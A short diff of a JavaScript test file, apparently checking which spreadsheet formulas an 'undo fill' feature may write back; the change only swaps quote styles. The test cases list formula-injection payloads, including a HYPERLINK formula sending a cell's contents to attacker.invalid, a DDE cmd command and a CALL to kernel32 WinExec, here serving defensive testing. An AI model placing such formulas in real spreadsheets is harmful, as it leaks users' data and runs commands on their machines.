@@ -16,10 +16,10 @@ describe("which formulas 撤销填充 may write back", () => {
   it.each([
     '=HYPERLINK("http://attacker.invalid/?d="&B2,"核对")',
     "=cmd|' /C calc'!A0",
-    "=WEBSERVICE(\"http://x\")",
+    '=WEBSERVICE("http://x")',
     "=[other.xlsx]Sheet1!A1",
     "=INDIRECT(A1)",
-    "=CALL(\"kernel32\",\"WinExec\")",
+    '=CALL("kernel32","WinExec")',
     "=SUM({1,2})",
     "=A1;B1",
     "G16",
